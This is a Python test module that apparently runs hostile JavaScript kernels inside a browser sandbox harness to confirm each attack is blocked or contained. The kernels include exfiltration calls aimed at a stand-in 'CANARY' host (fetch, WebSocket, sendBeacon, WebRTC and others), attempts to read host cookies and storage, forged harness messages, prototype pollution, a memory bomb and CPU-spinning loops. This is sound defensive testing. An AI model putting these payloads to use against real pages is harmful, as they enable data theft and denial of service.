"""Malicious kernels, one per test, in each browser engine (docs/harness-security.md explains each).

Each kernel attacks from inside the sandbox while a host page on another origin embeds the harness
and a canary server on another port listens. Every test checks the same four things:

- the attack is blocked (the kernel reports what it got) or contained (the worker is stopped and
  the task reported as a kernel error);
- the canary received nothing at all;
- the rest of the campaign completes with exact results;
- the host page is unaffected: it keeps animating, and its cookie, storage, URL and globals are as
  they were.

Network and storage attacks are written as async kernels that await the outcome of each attempt
and return it, so a test sees "blocked: <error>" rather than merely the absence of a hit.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

import pytest
import trio

from tests.browser.conftest import (
    BrowserThread,
    Canary,
    Embedding,
    HostSite,
    Outcome,
    browser_cpu_seconds,
    busy_kernel,
    in_every_engine,
    outcome,
)
from tests.conftest import LiveServer, StartServer

DATASETS = 6
EXACT = {i: i * 2 for i in range(DATASETS)}


@dataclass
class Aftermath:
    """What the server stored for an attack's campaign, and what its page logged."""

    stored: Outcome
    log: list[str]

    def reports(self) -> list[Any]:
        return [self.stored.results[i] for i in sorted(self.stored.results)]

    def errors_of(self, i: int) -> list[str]:
        """Kernel error messages stored for dataset {i: i} (dataset ids are 1-based, in order)."""
        return [e["message"] for e in self.stored.errors if e["dataset_id"] == i + 1]

    def exact_but(self, i: int) -> bool:
        """Every dataset but {i: i} has its exact result, and {i: i} has none."""
        return i not in self.stored.results and self.stored.results == {k: v for k, v in EXACT.items() if k != i}


@dataclass
class Attacker:
    """Runs malicious kernels from a host page while `canary` listens."""

    embedding: Embedding
    canary: Canary

    async def __call__(self, kernel: str, *, task_timeout: float = 5, check_realms: bool = False) -> Aftermath:
        """Runs a campaign of `kernel` over {i: 0..5} from a host page and checks canary and host page."""
        kernel = kernel.replace("CANARY_WS", self.canary.ws_url).replace("CANARY", self.canary.url)
        browser, server = self.embedding.browser, self.embedding.server
        campaign = await self.embedding.campaign(kernel, DATASETS, task_timeout=task_timeout)
        async with self.embedding.visit(campaign) as page:
            secrets = await browser.run(page.host_secrets)
            await browser.run(page.reset_host_frames)
            before = await browser.run(page.host_frames)
            await browser.run(page.click, "contribute")
            await server.wait_complete(campaign, timeout=90)
            await trio.sleep(0.5)  # anything a kernel left in flight would have reached the canary by now
            stored = await outcome(server, campaign)
            if check_realms:
                assert await browser.run(page.realms_clean), "pollution escaped the kernel's worker"

            assert self.canary.hits == [], self.canary.hits
            after = await browser.run(page.host_frames)
            assert after["frames"] > before["frames"] + 10, (before, after)
            assert after["maxGap"] < 500, after
            assert await browser.run(page.host_secrets) == secrets
            return Aftermath(stored, page.log)


@pytest.fixture
def attack(embedding: Embedding, canary: Canary) -> Attacker:
    return Attacker(embedding, canary)


def reporting_kernel(attempt: str) -> str:
    """A kernel that makes `attempt` (a JS expression giving a value or a promise) on every task
    and returns {i, outcome}: "blocked: <error name>" when it threw or rejected."""
    return f"""({{
  main: async function (d) {{
    var outcome;
    try {{ outcome = await ({attempt}); }} catch (e) {{ outcome = "blocked: " + (e && e.name); }}
    return {{ i: d.i, outcome: String(outcome) }};
  }}
}})"""


def blocked(name: str, attempt: str, error: str = "", *, secret: str | None = None) -> Any:
    """A case of `test_the_sandbox_blocks`: `attempt` (see `reporting_kernel`) fails on every task
    with an error whose name starts with `error`, and no report shows the host's `secret`."""
    return pytest.param(attempt, error, secret, id=name)


# --------------------------------------------------------------------------- what a kernel may not do

BLOCKED = [
    # the network
    blocked("fetch", "fetch('CANARY/fetch', {mode: 'no-cors'}).then(function () { return 'reached'; })", "TypeError"),
    blocked(
        "xmlhttprequest",
        "new Promise(function (resolve, reject) { var x = new XMLHttpRequest();"
        " x.onload = function () { resolve('reached'); }; x.onerror = function () { reject({name: 'error event'}); };"
        " x.open('GET', 'CANARY/xhr'); x.send(); })",
    ),
    blocked(
        "websocket",
        "new Promise(function (resolve, reject) { var ws = new WebSocket('CANARY_WS/socket');"
        " ws.onopen = function () { resolve('reached'); };"
        " ws.onerror = function () { reject({name: 'error event'}); }; })",
    ),
    blocked(
        "eventsource",
        "new Promise(function (resolve, reject) { var es = new EventSource('CANARY/events');"
        " es.onopen = function () { resolve('reached'); };"
        " es.onerror = function () { es.close(); reject({name: 'error event'}); }; })",
    ),
    blocked(
        "import-scripts",
        "(function () { importScripts('CANARY/script.js'); return 'reached'; })()",
        "NetworkError",
    ),
    blocked(
        "send-beacon",
        "(function () { return navigator.sendBeacon('CANARY/beacon', 'x') ? 'reached' : 'refused'; })()",
        "TypeError",
    ),
    # loading code
    blocked(
        "eval-and-string-timers",
        "new Promise(function (resolve) {"
        " var viaEval; try { viaEval = eval('\"reached\"'); } catch (e) { viaEval = 'blocked: ' + e.name; }"
        " self.stringTimerRan = false; setTimeout('self.stringTimerRan = true; fetch(\"CANARY/timer\")', 0);"
        " setTimeout(function () { resolve(self.stringTimerRan ? 'reached' : viaEval); }, 50); })",
        "EvalError",
    ),
    blocked("new-function", "(function () { return new Function('return \"reached\"')(); })()", "EvalError"),
    blocked(
        "nested-workers",
        "(function () { var code = ['fetch(\"CANARY/nested\"); while (true) {}'];"
        " var url = URL.createObjectURL(new Blob(code, {type: 'text/javascript'}));"
        " var kinds = []; try { new Worker(url); kinds.push('Worker'); } catch (e) { kinds.push(e.name); }"
        " try { new SharedWorker(url); kinds.push('SharedWorker'); } catch (e) { kinds.push(e.name); }"
        " if (kinds.indexOf('Worker') >= 0 || kinds.indexOf('SharedWorker') >= 0) return 'reached: ' + kinds;"
        " throw {name: kinds.join(',')}; })()",
        "ReferenceError,ReferenceError",
    ),
    # the page and its data
    blocked(
        "parent-top-and-document",
        "(function () { var seen = [typeof parent, typeof top, typeof document,"
        " typeof window, typeof opener, typeof frames];"
        " if (seen.some(function (t) { return t !== 'undefined'; })) return 'reached: ' + seen;"
        " throw {name: 'all undefined'}; })()",
        "all undefined",
    ),
    blocked(
        "cookies",
        "(async function () { var found = [];"
        " if (typeof document !== 'undefined') found.push(document.cookie);"
        " if (typeof cookieStore !== 'undefined') found.push(JSON.stringify(await cookieStore.getAll()));"
        " if (found.length) return 'reached: ' + found; throw {name: 'no cookie API'}; })()",
        "no cookie API",
        secret="cookie-3f9a",
    ),
    blocked(
        "local-storage",
        "(function () { if (typeof localStorage !== 'undefined')"
        " return 'reached: ' + localStorage.getItem('host_secret');"
        " if (typeof sessionStorage !== 'undefined') return 'reached: sessionStorage'; throw {name: 'no storage'}; })()",
        "no storage",
        secret="storage-3f9a",
    ),
    blocked(
        "indexeddb",
        "new Promise(function (resolve, reject) { var open = indexedDB.open('loot');"
        " open.onsuccess = function () { resolve('reached'); }; open.onerror = function () { reject(open.error); }; })",
        "SecurityError",
    ),
    # Not even exposed to an opaque-origin worker (ReferenceError); SecurityError elsewhere.
    blocked("cache-storage", "caches.open('loot').then(function () { return 'reached'; })"),
    # channels the connect-src policy does not (or not everywhere) govern: removed by the bootstrap
    blocked(
        "webtransport",
        "new WebTransport('CANARY/transport'.replace('http:', 'https:')).ready.then(function () { return 'reached'; })",
        "ReferenceError",
    ),
    blocked(
        "webrtc",
        "(function () { var found = ['RTCPeerConnection', 'webkitRTCPeerConnection', 'RTCDataChannel',"
        " 'RTCRtpScriptTransformer', 'RTCEncodedVideoFrame', 'RTCEncodedAudioFrame']"
        ".filter(function (name) { return typeof self[name] !== 'undefined'; });"
        " if (!found.length) throw {name: 'ReferenceError'};"
        " var Peer = self.RTCPeerConnection || self.webkitRTCPeerConnection; if (!Peer) return 'reached: ' + found;"
        " var pc = new Peer({iceServers: [{urls: 'CANARY'.replace('http://', 'turn:') + '?transport=tcp',"
        " username: 'u', credential: 'c'}]}); pc.createDataChannel('loot');"
        " return pc.createOffer().then(function (offer) { return pc.setLocalDescription(offer); })"
        ".then(function () { return new Promise(function (resolve) { setTimeout(resolve, 1000, 'reached: ' + found); }); }); })()",
        "ReferenceError",
    ),
    blocked(
        "fontface",
        "(function () { if (typeof self.fonts !== 'undefined') return 'reached: fonts';"
        " return new FontFace('loot', 'url(CANARY/font.woff2)').load().then(function () { return 'reached'; }); })()",
        "ReferenceError",
    ),
    blocked(
        "gpu-and-offscreen-canvas",
        "(function () { var seen = [typeof navigator.gpu, typeof OffscreenCanvas];"
        " if (seen.some(function (t) { return t !== 'undefined'; })) return 'reached: ' + seen;"
        " throw {name: 'all undefined'}; })()",
        "all undefined",
    ),
]


@in_every_engine
@pytest.mark.parametrize(("attempt", "error", "secret"), BLOCKED)
async def test_the_sandbox_blocks(attack: Attacker, attempt: str, error: str, secret: str | None) -> None:
    result = await attack(reporting_kernel(attempt))
    reports = result.reports()
    assert reports == [{"i": i, "outcome": reports[i]["outcome"]} for i in range(DATASETS)]
    outcomes = {report["outcome"] for report in reports}
    assert all(o.startswith("blocked: " + error) for o in outcomes), outcomes
    if secret is not None:
        assert secret not in repr(reports)


# --------------------------------------------------------------------------- the harness itself

FORGED_MESSAGES = """({
  main: function (d) {
    if (d.i === 3) {
      for (var id = 0; id < 50; id++) postMessage([id, 1, null, 0]);
      postMessage({ type: "report", gen: 1, items: [[1, true, null, 0]], running: [] });
      postMessage({ type: "start", gen: 9, kernel: "({main: function () { return 'hijacked'; }})", static: "" });
      for (var n = 0; n < 10000; n++) postMessage("flood");
    }
    return d.i * 2;
  }
})"""


@in_every_engine
@pytest.mark.parametrize(
    ("kernel", "task_timeout", "error"),
    [
        # A forged answer never counts: the task failed instead.
        pytest.param(
            FORGED_MESSAGES,
            5,
            "the kernel's worker answered a task it was not computing",
            id="forged-protocol-messages-stop-the-worker-and-reach-nobody",
        ),
        pytest.param(
            "({ main: function (d) { if (d.i === 3) { while (true) {} } return d.i * 2; } })",
            1.5,
            "task exceeded the time limit of 1.5 s",
            id="an-infinite-loop-is-stopped-by-the-watchdog",
        ),
        pytest.param(
            "({ main: function (d) { return d.i === 3 ? 'x'.repeat(64 * 1024 * 1024) : d.i * 2; } })",
            5,
            "the result is too large: it is over the limit of {max_result_bytes:,} bytes",
            id="an-enormous-result-is-refused-in-the-worker",
        ),
        pytest.param(
            "({ main: function (d) { return d.i === 3 ? { f: function () {} } : d.i * 2; } })",
            5,
            'the result cannot be serialised: property "f" is a function',
            id="a-result-that-cannot-be-serialised-is-an-error",
        ),
    ],
)
async def test_one_bad_task_fails_alone(
    attack: Attacker, live_server: LiveServer, kernel: str, task_timeout: float, error: str
) -> None:
    """Dataset {i: 3} misbehaves: its task is reported as a kernel error and every other is exact."""
    result = await attack(kernel, task_timeout=task_timeout)
    assert result.exact_but(3), result.stored.results
    assert result.errors_of(3) == [error.format(max_result_bytes=live_server.settings.max_result_bytes)]


@in_every_engine
async def test_prototype_pollution_stays_inside_the_kernels_worker(attack: Attacker) -> None:
    """Pollution of the kernel's own realm changes neither its results (the bootstrap took the
    builtins it relies on before the kernel ran) nor any other realm: not the runner, the broker
    or the host page."""
    kernel = """(function () {
  Object.prototype.polluted = "yes";
  Array.prototype.polluted = "yes";
  Object.defineProperty(Object.prototype, "toString", { value: function () { return "evil"; } });
  Object.keys = function () { return ["evil"]; };
  String.prototype.isWellFormed = function () { return false; };
  JSON.stringify = function () { return "evil"; };
  self.postMessage = function () {};
  return {
    main: function (d) {
      Object.prototype["more" + d.i] = d.i;
      return { i: d.i, list: [d.i, d.i + 1], text: "ok" };
    }
  };
})()"""
    result = await attack(kernel, check_realms=True)
    assert result.stored.results == {i: {"i": i, "list": [i, i + 1], "text": "ok"} for i in range(DATASETS)}
    assert result.stored.errors == []


@in_every_engine
async def test_work_scheduled_after_returning_is_contained(attack: Attacker) -> None:
    kernel = """({
  main: function (d) {
    if (d.i === 3) {
      setTimeout(function () {
        fetch("CANARY/late").catch(function () {});
        postMessage([123456, 1, null, 0]);
        while (true) {}
      }, 0);
    }
    return d.i * 2;
  }
})"""
    result = await attack(kernel, task_timeout=1.5)
    # Its own answer went out before the timer fired; whichever task the worker held next was
    # stopped and handed out again, so every result is still exact.
    assert result.stored.results == EXACT


MEMORY_BOMB = """({ main: function (d) {
  if (d.i === 3) { var a = []; while (true) a.push(new Array(1e6).fill(d.i + 0.5)); }
  return d.i * 2;
} })"""


async def assert_host_page_alive(host_site: HostSite) -> None:
    """The host page keeps beaconing and animating, and never stalled half a second, whatever the kernel did."""
    seen = len(host_site.beacons)
    await trio.sleep(1.5)
    fresh = host_site.beacons[seen:]
    assert len(fresh) >= 3  # the host page is alive
    assert fresh[-1]["frames"] > fresh[0]["frames"]  # and animating
    assert max(b["gap"] for b in host_site.beacons) < 500


async def test_a_memory_bomb_crashes_only_the_sandbox(
    browser: BrowserThread, start_server: StartServer, host_site: HostSite, canary: Canary
) -> None:
    """In Chromium the bomb outgrows V8's heap and takes the runner's process down (a sandboxed frame
    has a process of its own). The broker notices the silence, reports the task, starts a new runner and
    finishes the campaign; the host page never stops animating. Playwright declares the whole page
    crashed when any of its frames crashes, so the host page reports itself via beacons instead."""
    server = await start_server(max_task_errors=1)
    embedding = Embedding(browser, server, host_site)
    campaign = await embedding.campaign(MEMORY_BOMB, DATASETS, task_timeout=120)
    async with embedding.visit(campaign, beacon=True) as page:
        await browser.run(page.reset_host_frames)
        await browser.run(page.click, "contribute")
        await server.wait_complete(campaign, timeout=90)
        stored = await outcome(server, campaign)
        assert {i: v for i, v in stored.results.items() if i != 3} == {i: v for i, v in EXACT.items() if i != 3}
        assert [e["message"] for e in stored.errors] == [
            "the sandbox crashed while computing this task (did the kernel run out of memory?)"
        ]
        assert canary.hits == []
        await assert_host_page_alive(host_site)


@pytest.mark.parametrize("browser", ["firefox"], indirect=True)
async def test_a_memory_bomb_in_firefox_is_ended_by_the_task_time_limit(
    browser: BrowserThread, start_server: StartServer, host_site: HostSite, canary: Canary
) -> None:
    """Firefox puts no small cap on a worker's heap (this bomb grew past 12 GB in Firefox 153 ESR
    without failing), so no crash ends it: the runner's watchdog terminates the worker at the task's
    time limit, which frees its memory, and the task is reported like any task that ran too long."""
    server = await start_server(max_task_errors=1)
    embedding = Embedding(browser, server, host_site)
    campaign = await embedding.campaign(MEMORY_BOMB, DATASETS, task_timeout=1)
    async with embedding.visit(campaign, beacon=True) as page:
        await browser.run(page.click, "contribute")
        await server.wait_complete(campaign, timeout=90)
        stored = await outcome(server, campaign)
        assert {i: v for i, v in stored.results.items() if i != 3} == {i: v for i, v in EXACT.items() if i != 3}
        assert [e["message"] for e in stored.errors] == ["task exceeded the time limit of 1 s"]
        assert canary.hits == []
        await assert_host_page_alive(host_site)


# --------------------------------------------------------------------------- the visitor's CPU

LOW_DUTY = 0.25  # the snippet's default level, "low": one worker computing a quarter of the time
SPIN = "var end = Date.now() + 30; while (Date.now() < end) {}"


@in_every_engine
@pytest.mark.parametrize(
    "kernel",
    [
        pytest.param(
            "({ main: function (d) { if (!self.spinning) { self.spinning = true;"
            f" setInterval(function () {{ {SPIN} }}, 0); }} return d.i * 2; }} }})",
            id="timer-loop",
        ),
        pytest.param(
            "({ main: function (d) { if (!self.spinning) { self.spinning = true;"
            " (async function () { for (;;) { await new Promise(function (r) { setTimeout(r, 0); });"
            f" {SPIN} }} }})(); }} return d.i * 2; }} }})",
            id="promise-loop",
        ),
    ],
)
async def test_a_kernel_that_keeps_working_after_returning_stays_within_the_duty_cycle(
    embedding: Embedding, kernel: str
) -> None:
    """Work a kernel leaves running (a timer or promise loop that never ends) occupies its worker
    between tasks, where no task's time limit watches it. The runner stops the worker for every rest
    of the duty cycle, so the browser spends about what an honest kernel makes it spend at the same
    level: the extra stays well under the level's share of a core (without the stops it is a whole
    core, four times the share at "low")."""
    browser = embedding.browser

    async def cores_at_low(kernel: str) -> float:
        """The browser's CPU (every process, in cores) while `kernel` computes at "low"."""
        campaign = await embedding.campaign(kernel, 3000, task_timeout=5)
        async with embedding.visit(campaign) as page:
            await embedding.start(page, done=3)
            before = (await browser.run(page.state))["done"]
            cpu, started = browser_cpu_seconds(), trio.current_time()
            await trio.sleep(5)
            cores = (browser_cpu_seconds() - cpu) / (trio.current_time() - started)
            assert (await browser.run(page.state))["done"] > before  # it kept computing meanwhile
            return cores

    honest = await cores_at_low(busy_kernel(20))
    spinning = await cores_at_low(kernel)
    assert (spinning - honest) / LOW_DUTY < 1, (spinning, honest)
